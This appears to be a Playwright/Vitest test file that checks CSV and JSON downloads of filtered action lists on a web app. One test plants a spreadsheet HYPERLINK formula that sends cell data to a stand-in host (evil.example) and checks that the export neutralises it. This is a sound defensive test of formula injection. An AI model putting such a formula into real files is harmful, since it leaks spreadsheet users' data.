import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { toCsv, unguard } from '../../src/exchange/csv/write-csv.ts';
import { useBrowser } from './browser.ts';
import { listedOn } from './listed.ts';
import { commonest, has, idsOf, plans } from './plan-from-files.ts';

const browser = useBrowser();

describe.each(plans)('of $id', ({ id, term, actions }) => {
  const list = `/${id}/actions/`;
  const file = `${id}-${term.replaceAll(' ', '-')}`;
  const planned = new Map(actions.map((action) => [action.id, action]));
  const [owner = ''] = commonest(actions, 'owner');
  const years = commonest(actions.filter(has('owner', owner)), 'timescale').slice(0, 2);
  const chosen = `${list}?owner=${owner}&${years.map((year) => `timescale=${year}`).join('&')}&sort=timescale`;
  const wanted = actions
    .filter(has('owner', owner))
    .filter((action) => years.some((year) => has('timescale', year)(action)));

  test('the CSV of a filtered list holds just its actions, in its order', async () => {
    await browser.withPage(chosen, async (page) => {
      const ids = await listedOn(page);
      const { name, text } = await download(page, 'CSV');
      const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
      expect(name).toBe(`${file}-chosen.csv`);
      expect(ids.length).toBeGreaterThan(10);
      expect(ids.toSorted()).toEqual(idsOf(wanted).toSorted());
      expect(rows.map((row) => row['id'])).toEqual(ids);
      for (const row of rows) {
        const action = planned.get(row['id'] ?? '');
        expect(row).toMatchObject({
          text: action?.text,
          timescale: action?.timescale,
          leads: action?.leads.join(' | '),
          priority: action?.values['priority']?.[0],
          objective: action?.values['objective']?.[0] ?? '',
          status: action?.values['status']?.[0]?.replaceAll('-', ' '),
        });
      }
    });
  });

  test('the JSON of a filtered list holds the same actions', async () => {
    await browser.withPage(chosen, async (page) => {
      const { name, text } = await download(page, 'JSON');
      const records = JSON.parse(text) as { id: string }[];
      expect(name).toBe(`${file}-chosen.json`);
      expect(records.map((record) => record.id)).toEqual(await listedOn(page));
    });
  });

  test(`the whole list is the file of all ${term}`, async () => {
    await browser.withPage(list, async (page) => {
      const { name, text } = await download(page, 'CSV');
      const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
      expect(name).toBe(`${file}.csv`);
      expect(rows.map((row) => row['id'])).toEqual(idsOf(actions));
    });
  });
});

test('what a spreadsheet could run is harmless in the file', async () => {
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
  await browser.withPage('/', async (page) => {
    await page.route('**/data/actions.csv', async (route) => {
      const response = await route.fetch();
      const [header = [], ...rows] = parse(await response.text(), { bom: true }).map((row) => row.map(unguard));
      const text = header.indexOf('text');
      const changed = rows.map((row) => (row[0] === '1.2-05' ? row.with(text, formula) : row));
      await route.fulfill({ response, body: toCsv(header, changed) });
    });
    await page.goto('/leeds/actions/?q=1.2-05');
    const { text } = await download(page, 'CSV');
    const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
    expect(rows.map((row) => row['text'])).toEqual([`'${formula}`]);
  });
});

test('a reader whose connection is gone is told so', async () => {
  await browser.withPage('/leeds/actions/?owner=courts', async (page) => {
    await page.route('**/data/actions.csv', (route) => route.abort());
    await page.getByRole('link', { name: 'Download this list (CSV)' }).click();
    await expect.poll(() => page.getByRole('alert').innerText()).toContain('We could not create the file.');
  });
});

async function download(page: Page, format: 'CSV' | 'JSON'): Promise<{ name: string; text: string }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: `Download this list (${format})` }).click(),
  ]);
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') };
}
